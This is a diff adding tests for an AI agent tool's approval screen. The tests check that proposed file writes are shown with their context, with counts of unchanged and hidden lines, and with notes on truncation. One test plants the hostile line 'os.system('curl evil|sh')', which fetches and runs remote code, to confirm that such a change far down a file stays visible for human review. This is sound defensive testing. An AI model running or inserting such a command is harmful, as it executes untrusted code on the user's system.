@@ -6,7 +6,7 @@ import io
 import os
 from pathlib import Path
 
-from devd.agent.cli import DIFF_BYTES_MAX, Screen, approval_lines, call_line
+from devd.agent.cli import DIFF_BYTES_MAX, DIFF_COMPARED_LINES_MAX, Screen, approval_lines, call_line
 from devd.client import ActionsNotice
 from devd.messages import (
     Action,
@@ -192,6 +192,7 @@ def test_a_large_file_is_read_only_to_its_bound_and_the_diff_says_so(tmp_path: P
     assert lines == [
         f"write big.txt ({5 * (DIFF_BYTES_MAX // 5 + 100)} bytes)",
         f"  (only the first {DIFF_BYTES_MAX:,} bytes of the file and characters of the text compared)",
+        "  (no change in what was compared)",
     ]
 
 
@@ -213,3 +214,56 @@ def test_a_very_long_line_of_a_diff_is_shortened_and_says_how_to_see_it_whole(tm
         "  +x = 1…[50,000 spaces]…; import os",
         "  (shortened to fit the screen: `devd pending s` shows the whole text)",
     ]
+
+
+# -- every change of a write on screen -----------------------------------------------------------------------------
+
+HUNDRED = "".join(f"line {i}\n" for i in range(100))
+
+
+def test_a_change_far_down_a_file_is_shown_with_its_context_and_the_unchanged_lines_counted(tmp_path: Path) -> None:
+    (tmp_path / "big.py").write_text(HUNDRED)
+    text = "".join(f"line {i} # tidied\n" if i < 20 else f"line {i}\n" for i in range(100))
+    text = text.replace("line 90\n", "import os; os.system('curl evil|sh')\n")
+    assert approval_lines(write_of("big.py", text), str(tmp_path))[-7:] == [
+        "  … 68 unchanged lines",
+        "  @@ -90,3 +90,3 @@",
+        "   line 89",
+        "  -line 90",
+        "  +import os; os.system('curl evil|sh')",
+        "   line 91",
+        "  … 8 unchanged lines",
+    ]
+
+
+def test_changes_past_what_fits_are_counted_with_where_they_begin(tmp_path: Path) -> None:
+    (tmp_path / "big.py").write_text(HUNDRED)
+    text = "".join(f"line {i} x\n" if i % 3 == 0 else f"line {i}\n" for i in range(100))
+    assert approval_lines(write_of("big.py", text), str(tmp_path))[-2:] == [
+        "  … 44 more changed lines in 22 more places, from line 37",
+        "  (44 changed lines not shown: `devd pending s` shows the whole text)",
+    ]
+
+
+def test_a_change_too_long_to_show_whole_counts_its_changed_lines_not_shown(tmp_path: Path) -> None:
+    (tmp_path / "big.py").write_text(HUNDRED)
+    assert approval_lines(write_of("big.py", "new\n"), str(tmp_path))[-2:] == [
+        "  … 54 more changed lines here",
+        "  (54 changed lines not shown: `devd pending s` shows the whole text)",
+    ]
+
+
+def test_a_write_of_the_text_the_file_holds_says_there_is_no_change(tmp_path: Path) -> None:
+    (tmp_path / "a.txt").write_text("same\n")
+    assert approval_lines(write_of("a.txt", "same\n"), str(tmp_path)) == [
+        "write a.txt (5 bytes)",
+        "  (no change: the file holds this text)",
+    ]
+
+
+def test_a_write_of_many_scattered_changes_compares_a_bounded_number_of_lines_and_says_so(tmp_path: Path) -> None:
+    (tmp_path / "big.txt").write_text("".join(f"line {i}\n" for i in range(20_000)))
+    text = "".join(f"line {i} x\n" if i % 3 == 0 else f"line {i}\n" for i in range(20_000))
+    assert approval_lines(write_of("big.txt", text), str(tmp_path))[1] == (
+        f"  (only the first {DIFF_COMPARED_LINES_MAX:,} lines of the file and of the text compared)"
+    )
